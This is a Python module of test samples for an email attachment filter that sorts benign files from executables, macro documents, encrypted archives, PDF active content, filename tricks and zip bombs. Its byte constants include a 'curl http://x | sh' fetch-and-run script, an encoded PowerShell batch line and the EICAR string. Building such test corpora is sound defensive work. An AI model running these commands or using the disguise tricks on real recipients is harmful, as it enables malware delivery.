TEXT_SJIS = "お世話になっております。\r\n資料を送付いたします。\r\n".encode("cp932")
CSV = "氏名,住所,電話\r\n山田太郎,東京都千代田区,03-1234-5678\r\n".encode("cp932")
BAT = b"@echo off\r\npowershell -enc AAAA\r\n"
SHELL = b"#!/bin/sh\ncurl http://x | sh\n"
NFT_SCRIPT = b"#!/usr/sbin/nft -f\nflush ruleset\n"
DXF = b"  0\nSECTION\n  2\nHEADER\n  9\n$ACADVER\n  1\nAC1015\n  0\nENDSEC\n  0\nEOF\n"
JWW = b"JwwData." + struct.pack("<I", 600) + b"\0" * 256
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Hello\\par}"
RTF_OBJECT = b"{\\rtf1\\ansi {\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b000000}}}"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# -- the corpus ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    key: str
    filename: str
    build: Callable[[], bytes]
    category: str  # expected category under the default profile
    verdict: str  # "pass" or "remove"
    declared: str = "application/octet-stream"

    @property
    def data(self) -> bytes:
        return self.build()


def _const(b: bytes) -> Callable[[], bytes]:
    return lambda: b


def uu_text(data: bytes, name: str, base64_form: bool = False) -> bytes:
    """A plain-text message with a uuencoded file in it (Thunderbird and Outlook offer it as an
    attachment): `begin 644 NAME` ... `end`, or `begin-base64` ... `====` (uuencode -m)."""
    if base64_form:
        body = binascii.b2a_base64(data).replace(b"\n", b"\r\n")
        block = f"begin-base64 644 {name}\r\n".encode() + body + b"====\r\n"
    else:
        lines = [binascii.b2a_uu(data[i : i + 45]).replace(b"\n", b"\r\n") for i in range(0, len(data), 45)]
        block = f"begin 644 {name}\r\n".encode() + b"".join(lines) + b"`\r\nend\r\n"
    return b"Hello,\r\nthe file is below.\r\n\r\n" + block + b"\r\nRegards\r\n"


SAMPLES: tuple[Sample, ...] = (
    # pass
    Sample("clean_pdf", "見積書.pdf", clean_pdf, "pdf", "pass", "application/pdf"),
    Sample("pdf_openaction_dest", "report.pdf", pdf_openaction_dest, "pdf", "pass", "application/pdf"),
    Sample("pdf_objstm_clean", "report.pdf", pdf_objstm_clean, "pdf", "pass", "application/pdf"),
    Sample("pdf_string_trap", "note.pdf", pdf_js_in_string_trap, "pdf", "pass", "application/pdf"),
    Sample("docx", "議事録.docx", docx, "office", "pass"),
    Sample("xlsx", "予算.xlsx", xlsx, "office", "pass"),
    Sample("odt", "文書.odt", odt, "office", "pass"),
    Sample("doc", "old.doc", doc, "office", "pass", "application/msword"),
    Sample("jtd", "文書.jtd", jtd, "office", "pass"),
    Sample("rtf", "memo.rtf", _const(RTF), "office", "pass"),
    Sample("png", "map.png", png, "image", "pass", "image/png"),
    Sample("jpeg", "写真.jpg", jpeg, "image", "pass", "image/jpeg"),
    Sample("gif", "icon.gif", gif, "image", "pass", "image/gif"),
    Sample("png_as_jpg", "photo.jpg", png, "image", "pass", "image/jpeg"),
    Sample("text", "readme.txt", _const(TEXT_SJIS), "text", "pass", "text/plain"),
    # uuencoded files in a text (libmagic: "uuencoded text", text/plain)
    Sample("uu_jpeg_in_text", "photo.txt", lambda: uu_text(jpeg(), "photo.jpg"), "text", "pass", "text/plain"),
    Sample("csv", "名簿.csv", _const(CSV), "text", "pass", "text/csv"),
    Sample("dxf", "図面.dxf", _const(DXF), "cad", "pass"),
    Sample("jww", "図面.jww", _const(JWW), "cad", "pass"),
    Sample("zip_clean", "資料.zip", lambda: zip_of({"a.pdf": clean_pdf(), "b.txt": b"hello\n"}), "archive", "pass"),
    Sample("zip_cp932", "資料.zip", lambda: zip_cp932({"見積書.pdf": clean_pdf()}), "archive", "pass"),
    Sample("zip_utf8", "資料.zip", lambda: zip_utf8({"報告書.txt": TEXT_SJIS}), "archive", "pass"),
    Sample("tar_gz", "logs.tar.gz", lambda: tar_of({"a.txt": b"x\n", "b.csv": CSV}, "gz"), "archive", "pass"),
    Sample("gzip", "data.csv.gz", lambda: gzip_of(CSV, "data.csv"), "archive", "pass"),
    Sample("bz2", "data.txt.bz2", lambda: bzip2_of(b"hello\n" * 100), "archive", "pass"),
    Sample("xz", "data.txt.xz", lambda: xz_of(b"hello\n" * 100), "archive", "pass"),
    Sample("nested_ok", "deep.zip", lambda: nested_zip(2), "archive", "pass"),
    # executables and scripts
    Sample("exe", "setup.exe", pe_exe, "executable", "remove"),
    Sample("exe_as_pdf", "請求書.pdf", pe_exe, "executable", "remove", "application/pdf"),
    Sample("dll_noext", "update", lambda: pe_exe(dll=True), "executable", "remove"),
    Sample("elf", "tool", elf, "executable", "remove"),
    Sample("macho", "app", macho, "executable", "remove"),
    Sample("lnk", "資料.lnk", lnk, "executable", "remove"),
    Sample("msi", "install.msi", msi, "executable", "remove"),
    Sample("jar", "app.jar", jar, "executable", "remove"),
    Sample("chm", "help.chm", chm, "executable", "remove"),
    Sample("bat", "run.bat", _const(BAT), "script", "remove", "text/plain"),
    Sample("bat_as_txt_shebang", "run.txt", _const(SHELL), "script", "remove", "text/plain"),
    # libmagic calls an interpreter it has no entry for text/plain
    Sample("shebang_unknown", "setup", _const(NFT_SCRIPT), "script", "remove", "text/plain"),
    Sample(
        "uu_exe_in_text", "readme.txt", lambda: uu_text(pe_exe(), "invoice.exe"), "executable", "remove", "text/plain"
    ),
    Sample(
        "uu_base64_exe_in_text",
        "notes.txt",
        lambda: uu_text(pe_exe(), "setup.exe", base64_form=True),
        "executable",
        "remove",
        "text/plain",
    ),
    Sample("zip_exe", "invoice.zip", lambda: zip_of({"invoice.exe": pe_exe()}), "executable", "remove"),
    Sample("zip_exe_cp932", "請求書.zip", lambda: zip_cp932({"請求書.pdf.exe": pe_exe()}), "executable", "remove"),
    Sample("targz_elf", "tools.tar.gz", lambda: tar_of({"bin/tool": elf()}, "gz"), "executable", "remove"),
    Sample("docx_package_exe", "doc.docx", lambda: docx_with_package(pe_exe()), "executable", "remove"),
    # disk images
    Sample("iso", "disk.iso", iso, "disk_image", "remove"),
    Sample("iso_as_zip", "files.zip", iso, "disk_image", "remove"),
    Sample("vhd", "disk.vhd", vhd, "disk_image", "remove"),
    Sample("vhdx", "disk.vhdx", vhdx, "disk_image", "remove"),
    Sample("onenote", "note.one", onenote, "disk_image", "remove"),
    Sample("onenote_renamed", "note.pdf", onenote, "disk_image", "remove"),
    # macro office
    Sample("docm", "申請書.docm", docm, "macro_office", "remove"),
    Sample("docm_as_docx", "申請書.docx", docm, "macro_office", "remove"),
    Sample("doc_macro", "old.doc", lambda: doc(macros=True), "macro_office", "remove", "application/msword"),
    Sample("xls_xlm", "book.xls", xls_with_xlm, "macro_office", "remove"),
    Sample("xlsx_macrosheet", "book.xlsx", lambda: xlsx(macrosheet=True), "macro_office", "remove"),
    Sample("jtd_macro", "文書.jtd", lambda: jtd(macros=True), "macro_office", "remove"),
    Sample("odt_basic", "文書.odt", lambda: odt(basic_macro=True), "macro_office", "remove"),
    Sample("docx_remote_template", "doc.docx", docx_remote_template, "macro_office", "remove"),
    Sample("rtf_object", "memo.rtf", _const(RTF_OBJECT), "macro_office", "remove"),
    Sample("zip_docm", "forms.zip", lambda: zip_of({"form.docm": docm()}), "macro_office", "remove"),
    # encrypted / uninspectable
    Sample("ppap", "見積書.zip", ppap_zip, "encrypted", "remove", "application/zip"),
    Sample("aes_zip", "secret.zip", lambda: aes_zip({"a.pdf": clean_pdf()}), "encrypted", "remove"),
    Sample("encrypted_docx", "secret.docx", encrypted_ooxml, "encrypted", "remove"),
    Sample("encrypted_doc", "secret.doc", lambda: doc(encrypted=True), "encrypted", "remove"),
    Sample("encrypted_pdf", "secret.pdf", pdf_encrypted, "encrypted", "remove", "application/pdf"),
    Sample("7z", "files.7z", seven_zip, "encrypted", "remove"),
    Sample("rar", "files.rar", rar, "encrypted", "remove"),
    Sample("lzh", "files.lzh", lzh, "encrypted", "remove"),
    Sample("cab", "files.cab", cab, "encrypted", "remove"),
    Sample("zip_ppap_inner", "outer.zip", lambda: zip_of({"inner.zip": ppap_zip()}), "encrypted", "remove"),
    # pdf active content
    Sample("pdf_js", "a.pdf", pdf_javascript, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_openaction", "a.pdf", pdf_openaction_js, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_launch", "a.pdf", pdf_launch, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_aa", "a.pdf", pdf_aa, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_embedded", "a.pdf", pdf_embedded_file, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_richmedia", "a.pdf", pdf_richmedia, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_xfa", "a.pdf", pdf_xfa, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_obfuscated", "a.pdf", pdf_obfuscated_js, "pdf_active", "remove", "application/pdf"),
    Sample("pdf_objstm", "a.pdf", pdf_objstm_js, "pdf_active", "remove", "application/pdf"),
    Sample("zip_pdf_js", "docs.zip", lambda: zip_of({"a.pdf": pdf_javascript()}), "pdf_active", "remove"),
    # html
    Sample("html", "page.html", _const(HTML), "html", "remove", "text/html"),
    Sample("html_as_txt", "page.txt", _const(HTML), "html", "remove", "text/plain"),
    Sample("svg_script", "image.svg", _const(SVG_SCRIPT), "html", "remove", "image/svg+xml"),
    Sample("hta", "update.hta", _const(HTA), "script", "remove"),
    # name tricks
    Sample("rlo", "invoice\u202etxt.exe", pe_exe, "executable", "remove"),
    Sample("rlo_pdf", "report\u202efdp.txt", clean_pdf, "name_trick", "remove"),
    Sample("double_ext", "請求書.pdf.exe", clean_pdf, "executable", "remove"),
    Sample("long_name", "a" * 300 + ".pdf", clean_pdf, "name_trick", "remove"),
    Sample("pdf_named_docx", "report.docx", clean_pdf, "name_trick", "remove"),
    Sample("zip_rlo_member", "a.zip", lambda: zip_of({"photo\u202egpj.txt": b"hi\n"}), "name_trick", "remove"),
    # limits
    Sample("nested_deep", "deep.zip", lambda: nested_zip(6), "limit", "remove"),
    Sample("ratio_bomb", "bomb.zip", ratio_bomb, "limit", "remove"),
    Sample("overlap_bomb", "bomb.zip", overlap_bomb, "limit", "remove"),
    # other
    Sample("random", "data.bin", lambda: bytes((i * 7919 + 13) % 251 for i in range(4096)), "other", "remove"),
)

SAMPLES_BY_KEY: dict[str, Sample] = {s.key: s for s in SAMPLES}


def sample(key: str) -> Sample:
    return SAMPLES_BY_KEY[key]
